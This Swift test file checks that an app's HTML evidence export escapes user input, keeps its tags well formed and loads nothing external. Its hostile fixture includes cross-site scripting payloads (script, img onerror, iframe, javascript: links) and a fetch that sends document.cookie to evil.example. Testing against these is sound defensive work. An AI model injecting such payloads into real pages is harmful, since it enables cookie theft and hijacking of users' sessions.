import Foundation
import Testing

@testable import ParleyShell

@Suite("Evidence: the HTML page is well formed, escaped and self-contained")
struct EvidenceHTMLTests {
  /// A client, contact, texts and reasons written to break a careless page.
  static let hostile = (
    client: #"Evil <script>alert("x")</script> & 'Co' 🚀"#,
    contact: #"<img src=x onerror="alert(1)"> & Ünïcødé 👩🏽‍💼"#,
    summary: #"they said "</td></tr></table>" & left 😤"#,
    fullText: """
    </pre><script>fetch("https://evil.example/?c="+document.cookie)</script>
    <a href="javascript:alert(1)">click</a> & <style>body{display:none}</style>
    'single' "double" `back` — 🎉
    """,
    note: #"<iframe src="https://evil.example"></iframe> 100% & more"#,
    reason: #"typo <b>bold</b> & "quoted""#
  )

  /// The hostile case, exported as HTML.
  private static func hostilePage() throws -> String {
    let harness = try ShellHarness()
    let now = "2026-11-29T10:00:00Z"
    try harness.succeed(
      [
        "new", "--client", hostile.client, "--contact", hostile.contact, "--invoice", "<INV>&1",
        "--amount", "£100", "--issued", "2026-09-01", "--due", "2026-10-01",
      ], at: now)
    try harness.succeed(
      [
        "log", "--channel", "email", "--out", "--on", "2026-10-08", "--summary",
        hostile.summary, "--text",
      ], at: now, answers: hostile.fullText.components(separatedBy: "\n") + ["."])
    try harness.succeed(["note", hostile.note], at: now)
    try harness.succeed(["void", "3", "--reason", hostile.reason], at: now)
    let run = try harness.oneShot(["export", "--html"], at: ShellHarness.exportNow)
    try #require(run.status == .success, "\(run.stderr)")
    return run.stdout
  }

  @Test("every user-supplied string is escaped: no markup from the case reaches the page")
  func escaping() throws {
    let html = try Self.hostilePage()
    for tag in ["<script", "<img", "<iframe", "<a ", "</pre><script", "<b>"] {
      #expect(!html.lowercased().contains(tag), "the page holds '\(tag)'")
    }
    let h = HTMLEscaping.escape
    for text in [
      Self.hostile.client, Self.hostile.contact, Self.hostile.summary, Self.hostile.fullText,
      Self.hostile.reason, "<INV>&1",
    ] {
      #expect(html.contains(h(text)), "not found escaped: \(text)")
    }
    #expect(
      html.contains(
        "Evil &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;Co&#39; 🚀"))
    // Only the page's own style element: the one in the full text is text.
    #expect(html.components(separatedBy: "<style>").count == 2)
  }

  @Test("well formed: every tag opened is closed, in order")
  func wellFormed() throws {
    for html in [try Self.hostilePage(), try Self.fixturePage()] {
      #expect(HTMLStructure.problems(html) == [])
      let names = Set(HTMLStructure.tags(html).map(\.name))
      let known: Set<String> = [
        "html", "head", "meta", "title", "style", "body", "header", "main", "section", "footer",
        "h1", "h2", "h3", "h4", "p", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th",
        "td", "ul", "li", "pre", "code", "strong", "span", "div", "time",
      ]
      #expect(names.subtracting(known) == [], "tags the page should not use")
      #expect(
        html.hasPrefix("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">"))
      #expect(html.hasSuffix("</body>\n</html>\n"))
    }
  }

  @Test("self-contained: no scripts, no links, no external resources; a CSP forbids loading")
  func selfContained() throws {
    for html in [try Self.hostilePage(), try Self.fixturePage()] {
      for tag in HTMLStructure.tags(html) where !tag.isClosing {
        let attributes = tag.attributes.lowercased()
        for attribute in ["src=", "href=", "srcset=", "action=", "style=", "on"] {
          let found =
            attribute == "on"
            ? attributes.split(separator: " ").contains { $0.hasPrefix("on") }
            : attributes.contains(attribute)
          #expect(!found, "<\(tag.name)\(tag.attributes)> has \(attribute)")
        }
      }
      let style = try #require(
        html.components(separatedBy: "<style>").dropFirst().first?
          .components(separatedBy: "</style>").first)
      #expect(!style.contains("url("))
      #expect(!style.contains("@import"))
      #expect(
        html.contains(
          "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; "
            + "style-src 'unsafe-inline'\">"))
    }
  }

  @Test("printable, with dates in ISO and in words, and the notice")
  func printableAndDated() throws {
    let html = try Self.fixturePage()
    #expect(html.contains("@media print"))
    #expect(html.contains("@page"))
    #expect(
      html.contains(
        "<time datetime=\"2026-10-08\">2026-10-08 (Thursday 8 October 2026)</time>"))
    #expect(html.contains("<time datetime=\"2026-10-21T08:15:00Z\">2026-10-21T08:15:00Z ("))
    #expect(html.contains(EvidenceRecord.notice))
    #expect(html.contains("class=\"intact\">intact: 12 lines"))
    #expect(html.contains("<span class=\"void-mark\">VOID</span>"))
    #expect(html.contains("<div class=\"entry void\" id=\"entry-6\">"))
  }

  @Test("printed pages are numbered 'Page N of M' at the bottom right, on A4")
  func pageNumbers() throws {
    let html = try Self.fixturePage()
    let style = try #require(
      html.components(separatedBy: "<style>").dropFirst().first?
        .components(separatedBy: "</style>").first)
    let page = try #require(style.range(of: "@page {"), "no @page rule")
    let rule = style[page.lowerBound...].prefix { $0 != "}" }
    #expect(rule.contains("size: A4;"))
    let bottomRight = try #require(style.range(of: "@bottom-right {"), "no page number box")
    #expect(
      style[bottomRight.upperBound...].prefix { $0 != "}" }
        .contains(#"content: "Page " counter(page) " of " counter(pages);"#), "\(style)")
    #expect(style.contains("@media print {"))
  }

  @Test("the structure check itself catches what it should")
  func structureCheckWorks() {
    #expect(HTMLStructure.problems("<p><span>x</p></span>").count == 2)
    #expect(HTMLStructure.problems("<div><p>x</p>") == ["left open: [\"div\"]"])
    #expect(HTMLStructure.problems("<head><meta charset=\"utf-8\"></head>") == [])
    #expect(HTMLStructure.problems("<style>p > a { }</style>") == [])
  }

  /// The fixture case, exported as HTML.
  private static func fixturePage() throws -> String {
    let harness = try ShellHarness()
    try harness.makeEvidenceCase()
    let run = try harness.oneShot(
      ["export", "--case", "acme", "--html"], at: ShellHarness.exportNow)
    try #require(run.status == .success, "\(run.stderr)")
    return run.stdout
  }
}
